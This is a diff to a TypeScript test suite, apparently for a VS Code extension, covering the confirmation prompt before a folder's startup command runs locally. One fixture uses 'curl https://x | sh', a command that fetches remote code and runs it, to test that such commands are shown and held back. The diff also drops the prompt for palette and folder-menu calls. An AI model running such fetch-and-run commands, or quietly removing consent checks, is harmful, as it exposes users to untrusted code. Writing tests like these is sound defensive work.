@@ -51,14 +51,14 @@ describe("the question before a folder runs on this machine", () => {
   const projectFile = (file: object): void =>
     writeFileSync(path.join(folder, "hosted-app.json"), JSON.stringify(file));
 
-  it("names the folder and its start, and runs nothing without a yes, whatever called it", async () => {
+  it("names the folder and its start, and runs nothing without a yes, where others may have made the argument", async () => {
     projectFile({ name: "Shop", mainFile: "main.py", startupCommand: "curl https://x | sh" });
     const uri = vscode.Uri.file(folder);
-    for (const argument of [undefined, uri, { folder: uri.toString() }, { folder }])
+    for (const argument of [{ folder: uri.toString() }, { folder }])
       await assert.rejects(runs.run(argument), { name: "CancelledError" });
     assert.deepEqual(
       window.asked,
-      Array(4).fill({
+      Array(2).fill({
         text: "Run Shop on this machine?",
         lines: [
           folder,
@@ -75,7 +75,7 @@ describe("the question before a folder runs on this machine", () => {
     projectFile({ name: "Shop", mainFile: "main.py" });
     window.answer = "Run";
     for (let time = 0; time < 2; time++)
-      await assert.rejects(runs.run(undefined), (error: Error) => error.name !== "CancelledError");
+      await assert.rejects(runs.run({ folder }), (error: Error) => error.name !== "CancelledError");
     assert.deepEqual(
       window.asked.filter(({ text }) => text.startsWith("Run ")).map(({ lines }) => lines[1]),
       ["It starts with the file main.py.", "It starts with the file main.py."],
@@ -105,12 +105,13 @@ describe("the question before a folder runs on this machine", () => {
     assert.equal(sent.length, 3);
   });
 
-  it("shows the commands of the linked app, also to a call of our own code, and again when they change", async () => {
+  it("shows the commands of the linked app, whatever called it, and again when they change", async () => {
     let app: object = { startupCommand: "python run.py", installCommand: "make deps", memoryMB: 512 };
     const account = { id: "a", apps: { find: () => app }, client: { getApp: async () => app } };
     Object.assign(runs["options"], { accounts: someAccounts(account) });
     projectFile({ name: "Shop", mainFile: "main.py", memoryMB: 128, appId: "app1" });
-    await assert.rejects(runs.run(withConsent({ folder })), { name: "CancelledError" });
+    for (const argument of [undefined, withConsent({ folder })])
+      await assert.rejects(runs.run(argument), { name: "CancelledError" });
     assert.deepEqual(window.asked.at(-1)?.lines.slice(1), [
       "It starts with the command: python run.py",
       "Its packages are installed first with the command: make deps",
@@ -136,7 +137,7 @@ describe("the question before a folder runs on this machine", () => {
 
   it("is refused where the command does not fit", async () => {
     projectFile({ name: "Shop", startupCommand: "x".repeat(1_001) });
-    await assert.rejects(runs.run(undefined), /too long to show in full/);
+    await assert.rejects(runs.run({ folder }), /too long to show in full/);
     assert.deepEqual(started, []);
   });
 
@@ -150,10 +151,10 @@ describe("the question before a folder runs on this machine", () => {
     assert.equal(isOver, true);
   });
 
-  it("is not asked for a call of our own code", async () => {
+  it("is not asked for the palette, the folder's own menu or a call of our own code", async () => {
     projectFile({ name: "Shop", mainFile: "main.py" });
-    const argument = withConsent({ folder });
-    await assert.rejects(runs.run(argument), (error: Error) => error.name !== "CancelledError");
-    assert.deepEqual([window.asked, started.length], [[], 1]);
+    for (const argument of [undefined, vscode.Uri.file(folder), withConsent({ folder })])
+      await assert.rejects(runs.run(argument), (error: Error) => error.name !== "CancelledError");
+    assert.deepEqual([window.asked, started.length], [[], 3]);
   });
 });
